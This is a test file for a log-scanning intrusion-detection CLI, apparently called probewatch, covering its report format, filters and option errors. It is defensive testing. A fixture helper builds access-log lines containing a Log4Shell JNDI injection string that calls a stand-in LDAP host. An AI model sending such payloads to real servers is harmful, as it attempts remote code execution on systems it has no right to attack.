import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { describe, it } from 'node:test';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { readLines } from '../../lambdas/adapters/log-stream.js';
import { parseTimeArg, table } from '../../lambdas/cli/commands/common.js';
import { textSizeOf } from '../../lambdas/cli/main.js';
import { fitList } from '../../lambdas/cli/render.js';
import { EXPLAIN_LIMIT } from '../../lambdas/core/scan.js';
import { runCli } from '../support/cli.js';

const SEEDS = ['events/logs/seed-cgi-sweep.log', 'events/logs/seed-registration-probe.log'];
const dir = mkdtempSync(join(tmpdir(), 'probewatch-report-'));
const file = (name: string, text: string | Buffer) => {
  const p = join(dir, name);
  writeFileSync(p, text);
  return p;
};
const log4shell = (ip: string, s: number) =>
  `${ip} - - [01/Mar/2024:10:00:${String(s).padStart(2, '0')} +0000] "GET /?x=\${jndi:ldap://192.0.2.1/a} HTTP/1.1" 200 5 "-" "curl/8"`;

describe('the text report: a summary first, then details', () => {
  it('one summary line per alerted source (source, severity, horizon, requests, first/last seen, top categories) before the details', async () => {
    const { code, stdout } = await runCli(['scan', ...SEEDS]);
    assert.equal(code, 0);
    const lines = stdout.split('\n');
    const at = lines.indexOf('ALERTS (3)');
    assert.ok(at > 0);
    assert.match(lines[at + 1] ?? '', /^ {2}source +severity +horizon +req +first → last seen \(UTC\) +top categories$/);
    assert.match(lines[at + 2] ?? '', /^ {2}10\.122\.71\.83 +medium +2m +34 +2013-03-02 01:12:14 → 01:14:26 +registration-probe×34/);
    assert.match(lines[at + 3] ?? '', /^ {2}64\.34\.169\.223 +medium/);
    assert.match(lines[at + 4] ?? '', /^ {2}5\.135\.167\.145 +medium/);
    assert.equal(lines[at + 5], '');
    assert.equal(lines[at + 6], 'DETAILS');
    assert.match(lines[at + 7] ?? '', /^ {2}10\.122\.71\.83 +medium +score 249/);
  });

  it('--top N shows the N most severe alerted sources and says how many more there are', async () => {
    const { code, stdout } = await runCli(['scan', '--top', '1', ...SEEDS]);
    assert.equal(code, 0);
    assert.match(stdout, /ALERTS \(3\)\n.*\n {2}10\.122\.71\.83 .*\n {2}… and 2 more alerted sources \(--top to show more; --json lists all\)\n/);
    assert.doesNotMatch(stdout, /score 175/, 'the others have no details');
    const json = JSON.parse((await runCli(['scan', '--json', '--top', '1', ...SEEDS])).stdout);
    assert.equal(json.alerts.length, 3, '--json lists all');
    const bad = await runCli(['scan', '--top', '0', ...SEEDS]);
    assert.equal(bad.code, 2);
    assert.match(bad.stderr, /--top takes a whole number/);
  });

  it('wraps to the terminal width, and to 100 columns when the output is not a terminal', async () => {
    const narrow = await runCli(['scan', ...SEEDS], { tty: true, columns: 72, env: { NO_COLOR: '1' } });
    const wide = await runCli(['scan', ...SEEDS], { tty: true, columns: 160, env: { NO_COLOR: '1' } });
    const piped = await runCli(['scan', ...SEEDS], { columns: 72 });
    const prose = (s: string) => s.split('\n').filter((l) => /^ {4}(What to do|Probably|Note)/.test(l) || /^ {4}[a-z]/.test(l));
    for (const l of prose(narrow.stdout)) assert.ok(l.length <= 72, `${l.length}: ${l}`);
    assert.ok(prose(narrow.stdout).length > prose(wide.stdout).length, 'fewer, longer lines on a wide terminal');
    assert.ok(wide.stdout.split('\n').some((l) => l.length > 100));
    assert.equal(piped.stdout, (await runCli(['scan', ...SEEDS])).stdout, 'not a terminal: 100 columns whatever COLUMNS says');
    for (const l of prose(piped.stdout)) assert.ok(l.length <= 100);
  });

  it('--since/--until read only the lines whose time is in the range; the rest are counted, not sampled', async () => {
    const since = JSON.parse((await runCli(['scan', '--json', '--since', '2015-03-22T12:00Z', 'events/logs/seed-cgi-sweep.log'])).stdout);
    assert.deepEqual(
      since.alerts.map((a: { source: string }) => a.source),
      ['5.135.167.145'],
    );
    assert.ok(since.lines.skipped['outside-time-range'] > 30);
    assert.equal(since.lines.parsed + since.lines.skipped['outside-time-range'], since.lines.total);
    assert.equal(since.files[0].hint, undefined, 'lines outside the range are not parse failures');
    assert.deepEqual(since.skippedSamples, []);
    const until = JSON.parse((await runCli(['scan', '--json', '--until', '2015-03-22T12:00Z', 'events/logs/seed-cgi-sweep.log'])).stdout);
    assert.deepEqual(
      until.alerts.map((a: { source: string }) => a.source),
      ['64.34.169.223'],
    );
    const both = await runCli(['scan', '--since', '2015-03-23', '--until', '2015-03-22', 'events/logs/seed-cgi-sweep.log']);
    assert.equal(both.code, 2);
    assert.match(both.stderr, /--since must be before --until/);
    const bad = await runCli(['scan', '--since', 'yesterday', 'events/logs/seed-cgi-sweep.log']);
    assert.equal(bad.code, 2);
    assert.match(bad.stderr, /--since takes a duration back from now/);
  });

  it('--explain is honoured together with --json', async () => {
    const { code, stdout } = await runCli(['scan', '--json', '--explain', '5.135.167.145', 'events/logs/seed-cgi-sweep.log']);
    assert.equal(code, 0);
    const doc = JSON.parse(stdout);
    assert.equal(doc.explain.source, '5.135.167.145');
    assert.equal(doc.explain.requests.length, 31);
    assert.ok(doc.explain.requests.some((r: { labels: { rule: string }[] }) => r.labels.some((l) => l.rule)));
    assert.equal(doc.version, 1);
    assert.deepEqual([doc.explain.requestsSeen, doc.explain.listed, doc.explain.limit], [31, 31, EXPLAIN_LIMIT]);
    // Times as in the rest of the document: ISO 8601 UTC, not epoch milliseconds.
    assert.equal(doc.explain.requests[0].time, '2015-03-22T21:34:19Z');
    for (const r of doc.explain.requests) assert.match(r.time, /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{3})?Z$/);
  });

  it('--explain of a source with more requests than it lists says how many were seen and that the first are listed', async () => {
    const extra = 50;
    const lines: string[] = [];
    for (let i = 0; i < EXPLAIN_LIMIT + extra; i++) {
      const t = new Date(Date.UTC(2024, 2, 1, 10) + i * 1000);
      const clf = `${String(t.getUTCDate()).padStart(2, '0')}/Mar/2024:${[t.getUTCHours(), t.getUTCMinutes(), t.getUTCSeconds()].map((n) => String(n).padStart(2, '0')).join(':')} +0000`;
      lines.push(`198.51.100.5 - - [${clf}] "GET /page/${i} HTTP/1.1" 200 512 "-" "Mozilla/5.0"`);
    }
    const p = file('busy.log', `${lines.join('\n')}\n`);
    const text = await runCli(['scan', '--explain', '198.51.100.5', p]);
    assert.equal(text.code, 0);
    const head = text.stdout.split('\n')[0] as string;
    assert.match(head, /^Requests from 198\.51\.100\.5: 10,050 seen, the first 10,000 listed/);
    assert.equal(text.stdout.match(/^ {2}2024-03-01 /gm)?.length, EXPLAIN_LIMIT);
    assert.match(text.stdout, /… 50 later requests not listed/);
    const doc = JSON.parse((await runCli(['scan', '--json', '--explain', '198.51.100.5', p])).stdout);
    assert.deepEqual([doc.explain.requestsSeen, doc.explain.listed, doc.explain.limit], [EXPLAIN_LIMIT + extra, EXPLAIN_LIMIT, EXPLAIN_LIMIT]);
    assert.equal(doc.explain.requests.length, EXPLAIN_LIMIT);
    assert.equal(doc.explain.requests[0].time, '2024-03-01T10:00:00Z');
    assert.equal(doc.explain.requests.at(-1).request, `GET /page/${EXPLAIN_LIMIT - 1} HTTP/1.1`, 'the first ones are listed');
  });

  it('skipped-line samples keep the whole file name', async () => {
    const name = 'a-rather-long-log-file-name-from-the-web-frontend-eu-west-1-2024-03-01.log';
    const p = file(name, `${log4shell('203.0.113.9', 1)}\n\u0000garbage line that is not a log\n${log4shell('203.0.113.9', 2)}\n`);
    const { stdout } = await runCli(['scan', p]);
    assert.ok(
      stdout.split('\n').some((l) => l.includes(`${p}:2 `)),
      stdout,
    );
  });
});

describe('IPv6 sources are shown honestly', () => {
  it('a /64 in which one address was seen is shown as that address (the JSON source stays the /64)', async () => {
    const { stdout } = await runCli(['scan', 'events/logs/sample-alb.log']);
    assert.match(stdout, /^ {2}2001:db8:4:5::99 +critical/m);
    assert.match(stdout, /the only address seen in 2001:db8:4:5::\/64/);
    const doc = JSON.parse((await runCli(['scan', '--json', 'events/logs/sample-alb.log'])).stdout);
    const a = doc.alerts.find((x: { source: string }) => x.source === '2001:db8:4:5::/64');
    assert.equal(a.address, '2001:db8:4:5::99');
  });

  it('::1 is shown as ::1, not ::/64', async () => {
    const { stdout } = await runCli(['scan', file('loopback.log', `${log4shell('::1', 1)}\n`)]);
    assert.match(stdout, /^ {2}::1 /m);
    assert.doesNotMatch(stdout, /^ {2}::\/64/m);
  });

  it('a /64 in which several addresses were seen is shown as the /64', async () => {
    const p = file('two.log', `${log4shell('2001:db8:1:2::a', 1)}\n${log4shell('2001:db8:1:2::b', 2)}\n`);
    const { stdout } = await runCli(['scan', p]);
    assert.match(stdout, /^ {2}2001:db8:1:2::\/64 /m);
    const doc = JSON.parse((await runCli(['scan', '--json', p])).stdout);
    assert.equal(doc.alerts[0].address, undefined);
  });
});

describe('progress on decompressed bytes', () => {
  it('a gzip counts its decompressed size (from its trailer), a plain file its size', () => {
    const text = 'x'.repeat(300_000);
    assert.equal(textSizeOf(file('big.log.gz', gzipSync(text))), 300_000);
    assert.equal(textSizeOf(file('big.log', text)), 300_000);
  });

  it('the reader reports decompressed bytes as it goes', async () => {
    const text = Buffer.from('line one\nline two\n'.repeat(5000));
    let seen = 0;
    let stored = 0;
    await readLines(
      Readable.from([gzipSync(text)]),
      { line() {}, overlong() {} },
      {
        onText: (n) => {
          seen += n;
        },
        onBytes: (n) => {
          stored += n;
        },
      },
    );
    assert.equal(seen, text.length);
    assert.ok(stored < text.length / 10, 'the stored (compressed) count is much smaller');
  });
});

describe('report helpers (properties)', () => {
  it('fitList keeps to the room (cutting the first item if it must) and counts the rest', () => {
    // Once the first item is cut to leave room for the count, nothing follows it.
    assert.equal(fitList(['_________', '_'], 10), '_______… +1');
    // A first item that fits whole without its count is shown so, not cut mid-word.
    assert.equal(fitList(['shellshock×1', 'rce×1'], 13), 'shellshock +1');
    assert.equal(fitList(['path-traversal×2'], 14), 'path-traversal');
    fc.assert(
      fc.property(
        fc.array(
          fc.string({ minLength: 1, maxLength: 30 }).map((s) => s.replace(/ /g, '_')),
          { maxLength: 8 },
        ),
        fc.integer({ min: 1, max: 120 }),
        (items, room) => {
          const out = fitList(items, room);
          const m = / \+(\d+)$/.exec(out);
          const shown = items.length - (m ? Number(m[1]) : 0);
          assert.ok(items.length === 0 || shown >= 1);
          if (shown > 1) assert.equal(out.replace(/ \+\d+$/, ''), items.slice(0, shown).join(' '));
          if (room >= 16) assert.ok(out.length <= room, `${out.length} > ${room}`);
        },
      ),
    );
  });

  it('a wrapped table keeps every line within the width when its fixed columns fit', () => {
    fc.assert(
      fc.property(
        fc.array(fc.tuple(fc.string({ maxLength: 12 }), fc.string({ maxLength: 200 })), { minLength: 1, maxLength: 10 }),
        fc.integer({ min: 60, max: 200 }),
        (rows, width) => {
          const lines = table(
            rows.map(([a, b]) => [a.replace(/\n/g, ' '), b.replace(/\n/g, ' ')]),
            width,
          );
          for (const l of lines) assert.ok(l.length <= width, `${l.length} > ${width}`);
        },
      ),
    );
  });

  it('times: durations back from now, dates, and a clear refusal', () => {
    const now = Date.parse('2024-05-02T00:00:00Z');
    assert.equal(parseTimeArg('24h', now, '--since'), Date.parse('2024-05-01T00:00:00Z'));
    assert.equal(parseTimeArg('30m', now, '--since'), now - 1_800_000);
    assert.equal(parseTimeArg('2024-05-01', now, '--since'), Date.parse('2024-05-01T00:00:00Z'));
    assert.equal(parseTimeArg('2024-05-01T12:00', now, '--since'), Date.parse('2024-05-01T12:00:00Z'), 'no zone: UTC');
    assert.equal(parseTimeArg('2024-05-01T12:00+02:00', now, '--since'), Date.parse('2024-05-01T10:00:00Z'));
    assert.throws(() => parseTimeArg('last tuesday', now, '--since'), /--since takes a duration/);
  });

  it('times: an impossible date or an implausible year is refused, never rolled over', () => {
    const now = Date.parse('2024-05-02T00:00:00Z');
    assert.throws(() => parseTimeArg('2015-02-31', now, '--since'), /--since: 2015-02 has 28 days \(got "2015-02-31"\)/);
    assert.throws(() => parseTimeArg('2015-02-29', now, '--until'), /--until: 2015-02 has 28 days/);
    assert.equal(parseTimeArg('2016-02-29', now, '--since'), Date.parse('2016-02-29T00:00:00Z'), 'a leap day');
    assert.throws(() => parseTimeArg('1900-02-29', now, '--since'), /the year must be from 1990 to 2099/);
    assert.throws(() => parseTimeArg('1500-01-01', now, '--since'), /the year must be from 1990 to 2099/);
    assert.throws(() => parseTimeArg('2100-01-01', now, '--since'), /the year must be from 1990 to 2099/);
    assert.equal(parseTimeArg('1990-01-01', now, '--since'), Date.parse('1990-01-01T00:00:00Z'));
    assert.throws(() => parseTimeArg('2024-13-01', now, '--since'), /no such month/);
    assert.throws(() => parseTimeArg('2024-04-31', now, '--since'), /2024-04 has 30 days/);
    assert.throws(() => parseTimeArg('2024-05-01T24:00', now, '--since'), /no such time of day/);
    assert.throws(() => parseTimeArg('2024-05-01T12:60Z', now, '--since'), /no such time of day/);
    assert.throws(() => parseTimeArg('2024-05-01T12:00+24:00', now, '--since'), /zone offset/);
    assert.equal(parseTimeArg('2024-05-01 12:00:03.25-0530', now, '--since'), Date.parse('2024-05-01T17:30:03.250Z'));
  });

  it('times: every date of the plausible years is read as itself; a day past its month is refused (property)', () => {
    fc.assert(
      fc.property(fc.integer({ min: 1990, max: 2099 }), fc.integer({ min: 1, max: 12 }), fc.integer({ min: 1, max: 31 }), (y, m, d) => {
        const text = `${y}-${String(m).padStart(2, '0')}-${String(d).padStart(2, '0')}`;
        const exact = new Date(Date.UTC(y, m - 1, d));
        const exists = exact.getUTCMonth() === m - 1;
        if (exists) assert.equal(parseTimeArg(text, 0, '--since'), exact.getTime());
        else assert.throws(() => parseTimeArg(text, 0, '--since'), /days \(got/);
      }),
    );
  });
});

describe('option errors from the argument parser', () => {
  it("Node's message lines are shown as lines, not as escapes", async () => {
    const { code, stderr } = await runCli(['scan', '--since', '-5m', 'events/logs/seed-cgi-sweep.log']);
    assert.equal(code, 2);
    assert.doesNotMatch(stderr, /\\x0a/);
    assert.match(stderr, /^probewatch: Option '--since' argument is ambiguous\.\n {2}Did you forget/m);
  });

  it('what the user typed is still escaped', async () => {
    const { code, stderr } = await runCli(['scan', '--no-such\u001b[31m\noption', 'x']);
    assert.equal(code, 2);
    assert.ok(!stderr.includes('\u001b'), stderr);
    assert.match(stderr, /unknown option "--no-such\\x1b\[31m\\x0aoption"/);
  });

  it('an impossible date is a usage error of the scan (exit 2), not a rolled-over range', async () => {
    const { code, stderr, stdout } = await runCli(['scan', '--since', '2015-02-31', 'events/logs/seed-cgi-sweep.log']);
    assert.equal(code, 2);
    assert.equal(stdout, '');
    assert.match(stderr, /--since: 2015-02 has 28 days/);
    assert.match(stderr, /Run probewatch --help for usage/);
  });
});
